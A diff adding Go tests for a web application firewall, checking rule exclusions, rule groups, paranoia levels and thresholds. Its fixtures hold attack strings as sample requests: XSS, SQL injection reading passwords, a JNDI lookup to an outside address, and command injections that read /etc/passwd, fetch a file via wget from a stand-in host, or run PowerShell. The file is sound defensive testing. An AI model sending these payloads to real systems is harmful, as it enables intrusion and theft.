@@ -1,0 +1,208 @@
+package waf
+
+import (
+	"net/http"
+	"slices"
+	"testing"
+)
+
+// Each exclusion lets through what it names and nothing beside it.
+func TestExclusionsAreMinimal(t *testing.T) {
+	t.Parallel()
+	const script = "<script>alert(1)</script>"
+	form := map[string]string{"Content-Type": "application/x-www-form-urlencoded"}
+	json := map[string]string{"Content-Type": "application/json"}
+	multi := map[string]string{"Content-Type": multipartType}
+	field := func(name string) string {
+		return multipartBody("Content-Disposition: form-data; name=\"" + name + "\"\r\n\r\n" + union)
+	}
+	tests := []struct {
+		target string
+		passes []sample
+		stays  []sample
+	}{
+		{
+			"query.id",
+			[]sample{{target: "/?id=" + escaped(union)}, {target: "/?ID=" + escaped(union)}},
+			[]sample{
+				{target: "/?idx=" + escaped(union)},
+				{target: "/?a=1&b=" + escaped(union)},
+				{header: form, body: "id=" + escaped(union)},
+				{header: map[string]string{"Cookie": "id=" + union}},
+				{header: json, body: `{"id":"` + union + `"}`},
+			},
+		},
+		{
+			"form.id",
+			[]sample{{header: form, body: "id=" + escaped(union)}, {header: multi, body: field("id")}},
+			[]sample{{target: "/?id=" + escaped(union)}, {header: form, body: "x=" + escaped(union)}, {header: multi, body: field("ids")}},
+		},
+		{
+			"json.query",
+			[]sample{{header: json, body: `{"query":"` + union + `"}`}},
+			[]sample{
+				{header: json, body: `{"query":{"a":"` + union + `"}}`},
+				{header: json, body: `{"other":"` + union + `"}`},
+				{target: "/?query=" + escaped(union)},
+				{header: form, body: "query=" + escaped(union)},
+			},
+		},
+		{
+			"json.items.*.name",
+			[]sample{{header: json, body: `{"items":[{"name":"x"},{"name":"` + union + `"}]}`}},
+			[]sample{
+				{header: json, body: `{"items":[{"title":"` + union + `"}]}`},
+				{header: json, body: `{"items":[{"a":{"name":"` + union + `"}}]}`},
+			},
+		},
+		{
+			"query.filter[*]",
+			[]sample{{target: "/?filter[name]=" + escaped(union)}},
+			[]sample{{target: "/?filter=" + escaped(union)}, {target: "/?xfilter[name]=" + escaped(union)}},
+		},
+		{
+			"cookie.prefs",
+			[]sample{{header: map[string]string{"Cookie": "prefs=" + union}}},
+			[]sample{{header: map[string]string{"Cookie": "pref=" + union}}, {target: "/?prefs=" + escaped(union)}},
+		},
+		{
+			"header.Referer",
+			[]sample{{header: map[string]string{"Referer": script}}},
+			[]sample{{header: map[string]string{"User-Agent": script}}, {target: "/?referer=" + escaped(script)}},
+		},
+		{
+			"body",
+			[]sample{
+				{header: form, body: "id=" + escaped(union)},
+				{header: json, body: `{"a":"` + union + `"}`},
+				{header: multi, body: field("id")},
+				{header: map[string]string{"Content-Type": "text/xml"}, body: `<a b="` + union + `">` + union + `</a>`},
+				{header: map[string]string{"Content-Type": "text/plain"}, body: union},
+			},
+			[]sample{{target: "/?id=" + escaped(union)}, {header: map[string]string{"Cookie": "a=" + union}}},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.target, func(t *testing.T) {
+			t.Parallel()
+			groups := []string{"sqli", "core"}
+			e := newTestEngine(t, Config{Groups: groups, Exclude: []Exclusion{
+				{Group: "sqli", Target: tt.target},
+				{Group: "core", Target: tt.target},
+			}}, "")
+			plain := newTestEngine(t, Config{Groups: groups}, "")
+			for i, s := range tt.passes {
+				if v := plain.check(s.request()); verdictOf(v) != http.StatusForbidden {
+					t.Errorf("passes[%d] without the exclusion: got %d, want 403", i, verdictOf(v))
+				}
+				if v := e.check(s.request()); verdictOf(v) != http.StatusOK {
+					t.Errorf("passes[%d]: got %d with %+v, want 200", i, verdictOf(v), v.result.Matches)
+				}
+			}
+			for i, s := range tt.stays {
+				if v := e.check(s.request()); verdictOf(v) != http.StatusForbidden {
+					t.Errorf("stays[%d]: got %d, want 403", i, verdictOf(v))
+				}
+			}
+		})
+	}
+}
+
+func TestExclusionOfARule(t *testing.T) {
+	t.Parallel()
+	s := sample{target: "/?id=" + escaped(union)}
+	all := ids(newTestEngine(t, Config{}, "").check(s.request()).result)
+	e := newTestEngine(t, Config{Exclude: []Exclusion{{Rule: 942100}, {Rule: 942421}, {Rule: 942190, Target: "query.id"}}}, "")
+	got := ids(e.check(s.request()).result)
+	want := slices.DeleteFunc(all, func(id int) bool { return id == 942100 || id == 942190 })
+	if !slices.Equal(got, want) || len(want) == 0 {
+		t.Errorf("matches: got %v, want %v", got, want)
+	}
+	e = newTestEngine(t, Config{Exclude: []Exclusion{{Group: "sqli"}}}, "")
+	if got := ids(e.check(s.request()).result); len(got) != 0 {
+		t.Errorf("matches without the group: got %v, want none", got)
+	}
+}
+
+// What a result suggests is what lets the request through when it is written into the configuration.
+func TestSuggestedExclusionsLetTheRequestThrough(t *testing.T) {
+	t.Parallel()
+	plain := newTestEngine(t, Config{}, "")
+	for i, tt := range attacks() {
+		if raceEnabled && i%10 != 0 {
+			continue // an engine for each is too much for the race detector
+		}
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			var cfg Config
+			// A refusal at once hides what comes after it: three rounds.
+			for range 3 {
+				e := plain
+				if len(cfg.Exclude) > 0 {
+					e = newTestEngine(t, cfg, "")
+				}
+				v := e.check(tt.attack.request())
+				if v.err == nil {
+					return
+				}
+				for _, m := range v.result.Matches {
+					cfg.Exclude = append(cfg.Exclude, Exclusion{Rule: m.RuleID, Target: m.Target})
+				}
+			}
+			t.Errorf("still refused with the exclusions %+v", cfg.Exclude)
+		})
+	}
+}
+
+func TestGroupsSelectRules(t *testing.T) {
+	t.Parallel()
+	samples := map[string]sample{
+		"core":             {target: "/?q=" + escaped("<script>alert(1)</script>")},
+		"known-bad-inputs": {header: map[string]string{"X-Api-Version": "${jndi:ldap://203.0.113.9/a}"}},
+		"sqli":             {target: "/?id=" + escaped("1' UNION SELECT password FROM users-- -")},
+		"linux":            {target: "/?h=" + escaped("a;cat /etc/passwd")},
+		"posix":            {target: "/?h=" + escaped("a;wget http://e.example/x")},
+		"windows":          {target: "/?h=" + escaped("powershell.exe -NoP -NonI Invoke-Expression")},
+		"php":              {target: "/?x=" + escaped("<?php phpinfo(); ?>")},
+	}
+	known := knownRules()
+	for _, g := range groups() {
+		e := newTestEngine(t, Config{Groups: []string{g.name}}, "")
+		v := e.check(samples[g.name].request())
+		if len(v.result.Matches) == 0 {
+			t.Errorf("%s: found nothing in its own attack", g.name)
+		}
+		for name, s := range samples {
+			if raceEnabled && name != "core" {
+				continue // every rule is slow under the race detector
+			}
+			for _, id := range ids(e.check(s.request()).result) {
+				if r, ok := known[id]; ok && r.file != "" && !g.has(r) {
+					t.Errorf("%s: rule %d of another group matched the attack of %s", g.name, id, name)
+				}
+			}
+		}
+		// What cannot be read is refused under every group.
+		bad := sample{header: map[string]string{"Content-Type": "application/json"}, body: "{"}
+		if got := verdictOf(e.check(bad.request())); got != http.StatusBadRequest {
+			t.Errorf("%s: unreadable body got %d, want 400", g.name, got)
+		}
+	}
+}
+
+func TestParanoiaAndThreshold(t *testing.T) {
+	t.Parallel()
+	suspicious := sample{target: "/?q=" + escaped("a' or b; -- c |")}
+	low := ids(newTestEngine(t, Config{}, "").check(suspicious.request()).result)
+	high := ids(newTestEngine(t, Config{Paranoia: 4}, "").check(suspicious.request()).result)
+	if len(high) <= len(low) {
+		t.Errorf("matches: got %v at 4 and %v at 1, want more at 4", high, low)
+	}
+	attack := sample{target: "/?id=" + escaped(union)}
+	for threshold, want := range map[int]int{20: http.StatusForbidden, 21: http.StatusOK} {
+		e := newTestEngine(t, Config{Threshold: threshold}, "")
+		if v := e.check(attack.request()); verdictOf(v) != want || v.result.Score != 20 {
+			t.Errorf("threshold %d: got %d at score %d, want %d at 20", threshold, verdictOf(v), v.result.Score, want)
+		}
+	}
+}
